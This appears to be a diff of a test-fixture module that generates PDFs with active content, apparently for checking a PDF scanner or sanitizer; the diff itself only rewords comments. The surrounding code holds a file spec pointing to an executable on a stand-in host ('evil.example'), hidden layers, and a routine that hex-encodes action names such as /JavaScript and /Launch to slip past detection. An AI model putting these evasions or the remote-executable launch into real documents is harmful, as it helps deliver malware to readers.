@@ -1,8 +1,8 @@
 import { lockedPdf, packedPdf, pageObjects, plainPdf, updatedPdf } from './pdf-writer.mjs';
 
 /*
- * PDFs with active content: every kind of action, at every place from which a viewer starts one, in every spelling and
- * packing. Object 4 is the action.
+ * PDFs with active content: every kind of action, in every place where a viewer starts one, in every spelling and
+ * encoding. Object 4 is the action.
  */
 
 const file = '/F (\\\\\\\\evil.example\\\\share\\\\a.exe)';
@@ -114,7 +114,7 @@ const layered = (shown, object, usage = '') => [
   object,
 ];
 const automatic = '/AS [<< /Event /View /Category [/View] /OCGs [6 0 R] >>]';
-/** Layers that a viewer hides and that a copy of the pages alone would show. */
+/** Layers that a viewer hides, but that a copy of only the pages would show. */
 const hidden = {
   'switched off': layered('/OFF [6 0 R]', '<< /Type /OCMD /OCGs [6 0 R] >>'),
   'off at first': layered('/BaseState /OFF', '<< /Type /OCMD /OCGs [6 0 R] >>'),
@@ -128,7 +128,7 @@ const hex = (name) => [...name].map((letter) => `#${letter.charCodeAt(0).toStrin
 const inHex = (text) =>
   text.replace(/\/(JavaScript|JS|Launch|URI|S|OpenAction|AA|GoToR)(?![A-Za-z])/g, (_, name) => `/${hex(name)}`);
 
-/** How a file is written that has these objects. */
+/** The ways to write a file with these objects. */
 const packings = {
   plainly: (objects) => plainPdf(objects),
   'with names in hexadecimal': (objects) =>
